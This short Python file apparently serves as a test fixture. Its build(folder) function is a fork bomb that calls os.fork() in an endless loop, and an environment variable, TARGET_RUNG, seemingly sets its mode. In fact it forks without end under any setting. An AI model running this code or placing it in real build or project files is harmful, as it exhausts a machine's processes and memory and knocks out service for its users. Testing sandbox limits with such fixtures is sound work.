"""Forks without end."""
import os
import time


def build(folder):
    bomb = os.environ["TARGET_RUNG"] != "none"
    while True:
        try:
            if not os.fork() and not bomb:
                time.sleep(60)
        except OSError:
            time.sleep(0.01)
